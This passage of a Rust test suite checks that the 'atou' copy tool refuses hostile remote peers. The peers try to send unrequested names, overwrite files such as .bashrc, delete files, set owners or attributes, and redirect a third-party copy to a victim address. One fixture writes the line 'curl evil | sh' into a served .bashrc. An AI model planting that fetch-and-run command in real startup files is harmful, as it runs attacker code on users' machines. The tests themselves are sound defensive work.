    );
    let list = s.path("list");
    fs::write(&list, "# wanted\na\nsub/b\nsub/./deeper\n").unwrap();
    let dest = s.path("dest");
    let at = format!("127.0.0.1:{}", src.display());
    let out = pull(
        &s,
        Path::new(ATOU),
        &[
            "--files-from",
            list.to_str().unwrap(),
            &at,
            dest.to_str().unwrap(),
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(fs::read_to_string(dest.join("a")).unwrap(), "a");
    assert_eq!(fs::read_to_string(dest.join("sub/b")).unwrap(), "b");
    assert_eq!(fs::read_to_string(dest.join("deeper/d")).unwrap(), "d");
    assert!(!dest.join("other").exists());
    assert!(!dest.join("sub/c").exists());
    assert!(!dest.join("data").exists());

    // Two remote SRCs leave the list's base unsaid.
    let out = pull(
        &s,
        Path::new(ATOU),
        &[
            "--files-from",
            list.to_str().unwrap(),
            &at,
            &at,
            dest.to_str().unwrap(),
        ],
    );
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("give one remote SRC"),
        "{}",
        stderr(&out)
    );
}

/// With --files-from the names a pull may receive are the list's, not
/// the SRC's: a remote sending the SRC directory itself (the name a pull
/// without a list takes) is refused.
#[test]
fn a_pull_with_a_list_takes_only_the_names_it_lists() {
    let s = TestDir::new("hostile-remote-list-names");
    let reports = s.path("far/reports");
    fs::create_dir_all(&reports).unwrap();
    fs::write(reports.join(".bashrc"), "curl evil | sh\n").unwrap();
    let remote = hostile(&s, "", &[&reports]);
    let list = s.path("list");
    fs::write(&list, "report.txt\n").unwrap();
    let dest = home(&s);
    let out = pull(
        &s,
        &remote,
        &[
            "--files-from",
            list.to_str().unwrap(),
            "127.0.0.1:reports",
            dest.to_str().unwrap(),
        ],
    );
    assert_ne!(out.status.code(), Some(0));
    let err = stderr(&out);
    assert!(err.contains("which was not asked for"), "{err}");
    assert!(!dest.join("reports").exists(), "the remote wrote its tree");
    assert_home_untouched(&dest);
}

/// A pull, a push and a third-party copy with the hosts named by IPv6
/// address (`[::1]:PATH`): ssh's stand-in says the connection came over
/// IPv6, as sshd would, and every datagram goes over IPv6 loopback.
#[test]
fn copies_over_ipv6_go_each_way() {
    if std::net::UdpSocket::bind("[::1]:0").is_err() {
        eprintln!("skipped: no IPv6 loopback on this host");
        return;
    }
    let s = TestDir::new("hostile-remote-ipv6");
    let src = far_tree(&s, &[("sub/f", &[3u8; 2 * MIB as usize])]);
    let ssh6 = script(
        &s,
        "fake-ssh6",
        "if [ \"$1\" = -- ]; then shift; fi; shift\n\
         SSH_CONNECTION='::1 1 ::1 22' exec sh -c \"exec $*\"",
    );
    let copy = |args: &[&str]| {
        let out = Command::new(ATOU)
            .env("XDG_CACHE_HOME", s.path("cache"))
            .arg("copy")
            .args(args)
            .args(["--ssh", ssh6.to_str().unwrap(), "--remote-atou", ATOU])
            .args(["--maxidle", "10", "--json"])
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", stderr(&out));
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(v["path"], "udp", "{args:?}: {v}");
    };
    let at = |p: &Path| format!("[::1]:{}", p.display());
    let pulled = s.path("pulled");
    copy(&[&at(&src), pulled.to_str().unwrap()]);
    let pushed = s.path("pushed");
    copy(&[src.to_str().unwrap(), &at(&pushed)]);
    let third = s.path("third");
    copy(&[&at(&src), &at(&third)]);
    for dest in [pulled, pushed, third] {
        assert_eq!(
            fs::read(dest.join("data/sub/f")).unwrap(),
            vec![3u8; 2 * MIB as usize],
            "{}",
            dest.display()
        );
    }
}

/// `atou copy -n HOST:SRC DEST`: the remote sender lists what it would
/// send, as this end answered; DEST is neither created nor written.
#[test]
fn a_pull_dry_run_lists_what_would_come_and_writes_nothing() {
    let s = TestDir::new("hostile-remote-pull-dry");
    let src = far_tree(
        &s,
        &[("one", b"one"), ("sub/two", &[7u8; 3 * MIB as usize])],
    );
    let at = format!("127.0.0.1:{}", src.display());
    let remote = Path::new(ATOU);

    let missing = s.path("nowhere/dest");
    let out = pull(&s, remote, &["-n", &at, missing.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let listed = String::from_utf8_lossy(&out.stdout);
    assert!(
        listed.contains("data/sub/two") && listed.contains("dry run: would send 2 of 2 files"),
        "{listed}"
    );
    assert!(
        stderr(&out).contains("dry run answered here: 2 files would come"),
        "{}",
        stderr(&out)
    );
    assert!(!s.path("nowhere").exists(), "the dry run created DEST");

    // An existing DEST holding one of the files, as it is there: it is
    // skipped, and DEST gains nothing (no staging directory either).
    let dest = s.path("dest");
    fs::create_dir_all(dest.join("data")).unwrap();
    fs::write(dest.join("data/one"), "one").unwrap();
    // Skipped by size and mtime, as rsync's quick check.
    let mtime = fs::metadata(src.join("one")).unwrap().modified().unwrap();
    fs::File::options()
        .write(true)
        .open(dest.join("data/one"))
        .unwrap()
        .set_modified(mtime)
        .unwrap();
    let out = pull(
        &s,
        remote,
        &[
            "-n",
            "--skip-existing",
            "--json",
            &at,
            dest.to_str().unwrap(),
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["answered_here"]["files"], 1, "{v}");
    assert_eq!(v["answered_here"]["skipped"], 1, "{v}");
    let actions: Vec<&str> = v["dry_run"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["action"].as_str().unwrap())
        .collect();
    assert_eq!(actions, ["skip", "send"], "{v}");
    let mut left: Vec<String> = fs::read_dir(&dest)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    left.sort();
    assert_eq!(left, ["data"], "the dry run wrote into DEST");
    assert_eq!(fs::read_dir(dest.join("data")).unwrap().count(), 1);
}

/// A remote asked for a dry run that sends for real is refused by this
/// end's receiver, which answers dry runs only: nothing is written.
#[test]
fn a_remote_that_ignores_a_dry_run_writes_nothing_here() {
    let s = TestDir::new("hostile-remote-pull-dry-ignored");
    let report = s.path("far/report.txt");
    fs::create_dir_all(report.parent().unwrap()).unwrap();
    fs::write(&report, "not asked to be sent").unwrap();
    let remote = hostile(&s, "", &[&report]);
    let dest = s.path("dest");
    fs::create_dir_all(&dest).unwrap();
    let out = pull(
        &s,
        &remote,
        &["-n", "127.0.0.1:report.txt", dest.to_str().unwrap()],
    );
    assert_ne!(out.status.code(), Some(0));
    let err = stderr(&out);
    assert!(err.contains("answers dry runs only"), "{err}");
    assert_eq!(
        fs::read_dir(&dest).unwrap().count(),
        0,
        "the remote wrote into DEST"
    );
}

// ---------------------------------------------------------------------
// Third-party copies (`atou copy HOST:SRC HOST:DEST`): a hostile source
// meets the destination's rules, which are this user's flags; a hostile
// destination cannot point the source elsewhere.

/// A remote atou that is a hostile *source* of a third-party copy: asked
/// to `send-to`, it sends `sources` with `flags`, whatever it was asked;
/// as the destination it is this build's own, as it was asked.
fn hostile_source(s: &TestDir, flags: &str, sources: &[&Path]) -> PathBuf {
    script(
        s,
        "hostile-source-atou",
        &format!(
            // $1 $2 $3: `__remote --hello HELLO`; $4 the role.
            "if [ \"$4\" = send-to ]; then\n\
             exec {ATOU} __remote --hello \"$3\" send-to --port 0 --quiet {flags} -- {}\n\
             fi\nexec {ATOU} \"$@\"",
            quoted(sources)
        ),
    )
}

#[test]
fn a_third_party_source_gets_only_what_the_user_allowed_at_the_destination() {
    let s = TestDir::new("hostile-third-party-source");
    let dest = home(&s);
    let at_dest = format!("127.0.0.1:{}", dest.display());

    // Names not asked for: refused, nothing of them written.
    let sent = evil_tree(&s);
    let sent: Vec<&Path> = sent.iter().map(PathBuf::as_path).collect();
    let remote = hostile_source(&s, "--overwrite", &sent);
    let out = pull(&s, &remote, &["127.0.0.1:report.txt", &at_dest]);
    assert_ne!(out.status.code(), Some(0));
    let err = stderr(&out);
    assert!(err.contains("which was not asked for"), "{err}");
    assert_home_untouched(&dest);

    // Replacing a file: only with the user's --overwrite.
    let theirs = s.path("evil2/.bashrc");
    fs::create_dir_all(theirs.parent().unwrap()).unwrap();
    fs::write(&theirs, "theirs\n").unwrap();
    let remote = hostile_source(&s, "--overwrite", &[&theirs]);
    let out = pull(&s, &remote, &["127.0.0.1:.bashrc", &at_dest]);
    assert_ne!(out.status.code(), Some(0));
    assert!(
        stderr(&out).contains("not given --overwrite"),
        "{}",
        stderr(&out)
    );
    assert_home_untouched(&dest);
    let out = pull(&s, &remote, &["127.0.0.1:.bashrc", &at_dest, "--overwrite"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(
        fs::read_to_string(dest.join(".bashrc")).unwrap(),
        "theirs\n"
    );
    fs::write(dest.join(".bashrc"), "mine\n").unwrap();

    // Deleting, owners, attributes: only with the user's flags.
    let data = s.path("evil3/.ssh");
    fs::create_dir_all(&data).unwrap();
    fs::write(data.join("new"), "theirs\n").unwrap();
    for (flags, refusal) in [
        ("--delete --skip-existing", "not given --delete"),
        ("-o -g --numeric-ids --skip-existing", "not given -o or -g"),
        ("-X -A --skip-existing", "not given"),
    ] {
        let remote = hostile_source(&s, flags, &[&data]);
        let out = pull(&s, &remote, &["127.0.0.1:.ssh", &at_dest]);
        assert_ne!(out.status.code(), Some(0), "{flags}");
        assert!(stderr(&out).contains(refusal), "{flags}: {}", stderr(&out));
        assert_home_untouched(&dest);
        assert!(!dest.join(".ssh/new").exists(), "{flags}");
    }
}

/// A third-party copy logs in at both ends at once: the destination's
/// hello, which carries the source's key, goes on its stdin once the
/// source answered, so its ssh need not wait for that. An ssh stand-in
/// that takes a second to log in writes down when each log-in starts and
/// ends: both start before either ends (one after the other before:
/// the copy paid both log-ins in turn), and the file arrives.
#[test]
fn a_third_party_copy_logs_in_at_both_ends_at_once() {
    let s = TestDir::new("third-party-both-log-ins");
    let src = far_tree(&s, &[("a", b"a")]);
    let dest = s.path("dest");
    let log = s.path("log-ins");
    let slow_ssh = script(
        &s,
        "slow-ssh",
        &format!(
            "if [ \"$1\" = -- ]; then shift; fi; shift\n\
             case \"$*\" in *__remote*send-to*) end=source ;; *__remote*) end=dest ;; *) end= ;; esac\n\
             if [ -n \"$end\" ]; then echo \"start $end\" >>'{log}'; sleep 1; echo \"in $end\" >>'{log}'; fi\n\
             SSH_CONNECTION='127.0.0.1 1 127.0.0.1 22' exec sh -c \"exec $*\"",
            log = log.display()
        ),
    );
    let out = Command::new(ATOU)
        .env("XDG_CACHE_HOME", s.path("cache"))
        .arg("copy")
        .arg(format!("127.0.0.1:{}", src.display()))
        .arg(format!("127.0.0.1:{}", dest.display()))
        .args(["--ssh", slow_ssh.to_str().unwrap(), "--remote-atou", ATOU])
        .args(["--maxidle", "10"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(fs::read_to_string(dest.join("data/a")).unwrap(), "a");
    let lines: Vec<String> = fs::read_to_string(&log)
        .unwrap()
        .lines()
        .map(str::to_owned)
        .collect();
    let first_in = lines.iter().position(|l| l.starts_with("in ")).unwrap();
    let starts: Vec<usize> = (0..lines.len())
        .filter(|&i| lines[i].starts_with("start "))
        .collect();
    assert_eq!(starts.len(), 2, "{lines:?}");
    assert!(starts.iter().all(|&i| i < first_in), "{lines:?}");
}

/// `atou copy --files-from LIST A:DIR B:PATH`: the list read here goes
/// to the source and the names it starts to the destination, which takes
/// only those: an honest source's listed paths arrive, and a source that
/// sends the SRC directory itself instead is refused.
#[test]
fn a_third_party_copy_takes_a_files_from_list_and_only_its_names() {
    let s = TestDir::new("hostile-third-party-list");
    let src = far_tree(
        &s,
        &[
            ("a", b"a"),
            ("other", b"other"),
            ("sub/b", b"b"),
            ("sub/c", b"c"),
        ],
    );
    let list = s.path("list");
    fs::write(&list, "a\nsub/b\n").unwrap();
    let dest = s.path("dest");
    let out = pull(
        &s,
        Path::new(ATOU),
        &[
            "--files-from",
            list.to_str().unwrap(),
            &format!("127.0.0.1:{}", src.display()),
            &format!("127.0.0.1:{}", dest.display()),
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(fs::read_to_string(dest.join("a")).unwrap(), "a");
    assert_eq!(fs::read_to_string(dest.join("sub/b")).unwrap(), "b");
    assert!(!dest.join("other").exists() && !dest.join("sub/c").exists());

    // The hostile source reads the list (its bytes announced on its
    // command line) and sends the SRC directory whole instead.
    let remote = script(
        &s,
        "list-ignoring-source",
        &format!(
            "if [ \"$4\" = send-to ]; then\n\
             dd bs=1 count={} of=/dev/null status=none\n\
             exec {ATOU} __remote --hello \"$3\" send-to --port 0 --quiet -- '{}'\n\
             fi\nexec {ATOU} \"$@\"",
            fs::metadata(&list).unwrap().len(),
            src.display()
        ),
    );
    let home = home(&s);
    let out = pull(
        &s,
        &remote,
        &[
            "--files-from",
            list.to_str().unwrap(),
            "127.0.0.1:data",
            &format!("127.0.0.1:{}", home.display()),
        ],
    );
    assert_ne!(out.status.code(), Some(0));
    assert!(
        stderr(&out).contains("which was not asked for"),
        "{}",
        stderr(&out)
    );
    assert!(!home.join("data").exists(), "the source wrote its tree");
    assert_home_untouched(&home);
}

/// A remote atou that is a hostile *destination*: asked to `receive`, it
/// runs `then` (an answer of its choosing, say); as the source it is this
/// build's own. (`__remote --hello-stdin receive`: a third-party copy's
/// destination takes its hello on stdin, and `then` need not read it.)
fn hostile_dest(s: &TestDir, then: &Path) -> PathBuf {
    script(
        s,
        "hostile-dest-atou",
        &format!(
            "if [ \"$3\" = receive ]; then exec '{}'; fi\nexec {ATOU} \"$@\"",
            then.display()
        ),
    )
}

#[test]
fn a_third_party_destination_cannot_send_the_source_elsewhere() {
    let s = TestDir::new("hostile-third-party-dest");
    let src = s.path("far/a.txt");
    fs::create_dir_all(src.parent().unwrap()).unwrap();
    fs::write(&src, "a").unwrap();
    // A victim at 127.0.0.2, which the destination names as its own.
    let victim = std::net::UdpSocket::bind("127.0.0.2:0").unwrap();
    victim
        .set_read_timeout(Some(std::time::Duration::from_millis(200)))
        .unwrap();
    let port = victim.local_addr().unwrap().port();
    let answers = answering(&s, port, Some("127.0.0.2".parse().unwrap()), None);
    let remote = hostile_dest(&s, &answers);
    let heard = std::thread::spawn(move || {
        let mut n = 0;
        let until = std::time::Instant::now() + std::time::Duration::from_secs(4);
        let mut buf = [0u8; 2048];
        while std::time::Instant::now() < until {
            if victim.recv(&mut buf).is_ok() {
                n += 1;
            }
        }
        n
    });
    let started = std::time::Instant::now();
    let out = pull(
        &s,
        &remote,
        &[
            &format!("127.0.0.1:{}", src.display()),
            "127.0.0.1:dest",
            "--maxidle",
            "2",
        ],
    );
    let heard = heard.join().unwrap();
    eprintln!("the victim heard {heard} datagrams");
    assert_eq!(heard, 0, "the source sent where the destination said");
    // It sent to 127.0.0.1, the host ssh reached, where nothing answers:
    // a bounded wait, one reason, then the way around it, which this
    // destination does not take either.
    assert!(!out.status.success());
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
    let err = stderr(&out);
    assert!(
        err.contains("no UDP from here reached the destination"),
        "{err}"
    );
    assert!(err.contains("copying through this host instead"), "{err}");
    assert!(err.contains("did not take the ssh tunnel"), "{err}");

    // A destination that answers nonsense: refused, naming it.
    let nonsense = script(&s, "nonsense", "echo 'Welcome to host B!'; exec sleep 30");
    let remote = hostile_dest(&s, &nonsense);
    let started = std::time::Instant::now();
    let out = pull(
        &s,
        &remote,
        &[&format!("127.0.0.1:{}", src.display()), "127.0.0.1:dest"],
    );
    assert!(!out.status.success());
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
    let err = stderr(&out);
    assert!(err.contains("did not answer the bootstrap"), "{err}");
    assert!(err.contains("Welcome to host B!"), "{err}");
}
